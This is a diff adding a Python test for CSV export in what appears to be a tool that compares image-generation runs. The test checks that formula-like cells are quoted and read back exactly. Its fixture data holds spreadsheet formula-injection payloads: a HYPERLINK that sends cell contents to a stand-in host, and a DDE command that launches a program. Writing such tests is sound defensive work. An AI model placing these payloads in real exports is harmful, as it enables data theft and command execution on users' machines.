@@ -356,6 +356,57 @@ def test_csv_round_trips_typed_values(
     assert [r["value"] for r in back] == [1, 2]
 
 
+HOSTILE_TASK_IDS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+]
+HOSTILE_ERRORS = ["=cmd|' /C calc'!A0", "\tTAB", "'=already quoted", "'plain quote"]
+
+
+def _hostile_comparison() -> Comparison:
+    """A finished grid whose hub-given task ids and errors would run in a spreadsheet."""
+    layout = plan(
+        "=1+1 a lighthouse",
+        models=["nano-banana"],
+        seeds=[-7],
+        vary={"aspect_ratio": ["1:1", "16:9", "4:3", "3:4", "-1:1"]},
+    )
+    comparison = Comparison(layout)  # never started: nothing is sent
+    runs = [cell for cell in comparison.cells if cell.run is not None]
+    for cell, task_id, error in zip(runs, HOSTILE_TASK_IDS, HOSTILE_ERRORS, strict=True):
+        assert cell.run is not None
+        cell.started = True
+        cell.run.update(status="failed", task_id=task_id, error=error, elapsed_s=1.5)
+    return comparison
+
+
+def test_csv_text_a_spreadsheet_would_run_is_quoted_and_read_back(tmp_path: Path) -> None:
+    comparison = _hostile_comparison()
+    path = comparison.to_csv(tmp_path / "hostile.csv")
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["task_id"] for row in rows[:4]] == ["'" + t for t in HOSTILE_TASK_IDS]
+    assert [row["error"] for row in rows[:4]] == ["'" + e for e in HOSTILE_ERRORS]
+    assert rows[4]["status"] == REJECTED and rows[4]["value"] == "'-1:1"
+    assert rows[0]["params"].startswith('{"prompt": "=1+1 a lighthouse"')
+    # Numbers stay numbers, negative ones included.
+    assert all(row["seed"] == "-7" for row in rows)
+    assert [row["seconds"] for row in rows[:4]] == ["1.5"] * 4
+    for row in rows:
+        for name, cell in row.items():
+            if name not in ("seed", "seconds"):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    # Reading undoes the quoting exactly, even of text that itself started with a quote.
+    back = read_csv(path)
+    assert back == comparison.records()
+    assert [r["task_id"] for r in back[:4]] == HOSTILE_TASK_IDS
+    assert [r["error"] for r in back[:4]] == HOSTILE_ERRORS
+    assert back[4]["value"] == "-1:1" and back[0]["seed"] == -7
+    assert back[0]["params"]["prompt"] == "=1+1 a lighthouse"
+
+
 def test_save_images_fills_the_file_field(
     hub: simulator.Hub, client: CountingClient, tmp_path: Path
 ) -> None:
